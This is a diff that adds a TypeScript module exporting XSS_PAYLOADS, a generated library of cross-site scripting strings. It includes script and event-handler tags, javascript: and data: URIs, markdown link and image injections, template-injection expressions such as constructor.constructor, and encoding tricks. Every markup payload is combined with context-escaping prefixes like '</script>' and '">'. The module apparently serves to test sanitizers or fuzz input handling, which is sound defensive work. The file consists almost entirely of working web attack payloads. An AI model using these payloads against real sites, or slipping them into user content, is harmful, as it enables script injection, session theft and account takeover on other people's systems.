@@ -1,0 +1,105 @@
+/** Text that runs `call` where a page takes it for markup, script, a link or a template. */
+export type Payload = (call: string) => string
+
+/** Ways out of where a text usually stands. */
+const EXITS = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '</textarea>',
+  '</title>',
+  '</script>',
+  '</style>',
+  '--></noscript>',
+  ']]>',
+  '\n\n',
+]
+
+const MARKUP: Payload[] = [
+  (call) => `<script>${call}</script>`,
+  (call) => `<ScRiPt >${call}</sCrIpT\t>`,
+  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `<img src=x onerror="${call}"`,
+  (call) => `<IMG/SRC=x/ONERROR=${call}>`,
+  (call) => `<img src=x onerror\n=\n${call}>`,
+  (call) => `<image src=x onerror=${call}>`,
+  (call) => `<svg onload=${call}>`,
+  (call) => `<svg/onload=${call}//`,
+  (call) => `<svg><script>${call}</script></svg>`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
+  (call) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
+  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
+  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  (call) => `<iframe src="javascript:${call}"></iframe>`,
+  (call) => `<object data="javascript:${call}"></object>`,
+  (call) => `<embed src="javascript:${call}">`,
+  (call) => `<video><source onerror=${call}></video>`,
+  (call) => `<audio src=x onerror=${call}></audio>`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `<details open ontoggle=${call}>x</details>`,
+  (call) => `<marquee onstart=${call}>x</marquee>`,
+  (call) => `<body onload=${call}>`,
+  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
+  (call) => `<button formaction="javascript:${call}">x</button>`,
+  (call) => `<a href="javascript:${call}">x</a>`,
+  (call) => `<a href="java\tscript:${call}">x</a>`,
+  (call) => `<a href="&#106;avascript:${call}">x</a>`,
+  (call) => `<base href="javascript:/a/-${call}//">`,
+  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  (call) => `<style>@import "javascript:${call}";</style>`,
+  (call) => `<template><img src=x onerror=${call}></template>`,
+  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  (call) => `&lt;img src=x onerror=${call}&gt;`,
+]
+
+/** Where the text stands matters less to these. */
+const ELSEWHERE: Payload[] = [
+  (call) => `[x](javascript:${call})`,
+  (call) => `[x](JaVaScRiPt:${call})`,
+  (call) => `[x]( javascript:${call})`,
+  (call) => `[x](java%0ascript:${call})`,
+  (call) => `[x](&#x6A;avascript:${call})`,
+  (call) => `[x](data:text/html,<script>${call}</script>)`,
+  (call) => `[x](vbscript:${call})`,
+  (call) => `[x](https://example.com" onmouseover="${call})`,
+  (call) => `[x](https://example.com 'title" onclick="${call}')`,
+  (call) => `![x](javascript:${call})`,
+  (call) => `![x" onerror="${call}](https://example.com/x.png)`,
+  (call) => `<javascript:${call}>`,
+  (call) => `[x][1]\n\n[1]: javascript:${call}`,
+  (call) => `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
+  (call) => `| a |\n| - |\n| <img src=x onerror=${call}> |`,
+  (call) => `# <img src=x onerror=${call}>`,
+  (call) => `**<img src=x onerror=${call}>**`,
+  (call) => `javascript:${call}`,
+  (call) => `javascript://example.com/%0a${call}`,
+  (call) => `https://example.com/"onmouseover="${call}`,
+  (call) => `" onmouseover="${call}" x="`,
+  (call) => `' onfocus='${call}' autofocus x='`,
+  (call) => `'-${call}-'`,
+  (call) => `";${call};//`,
+  (call) => `\${${call}}`,
+  (call) => `{{${call}}}`,
+  (call) => `{{constructor.constructor('${call}')()}}`,
+  (call) => `$t(${call})`,
+  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
+  (call) => `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
+  (call) => `\u2028${call}\u2029`,
+  (call) => `\u202e<img src=x onerror=${call}>`,
+  (call) => `＜img src=x onerror=${call}＞`,
+  (call) => `mailto:a@example.com?subject=<img src=x onerror=${call}>`,
+]
+
+export const XSS_PAYLOADS: readonly Payload[] = [
+  ...ELSEWHERE,
+  ...EXITS.flatMap((exit) =>
+    MARKUP.map(
+      (markup): Payload =>
+        (call) =>
+          exit + markup(call),
+    ),
+  ),
+]
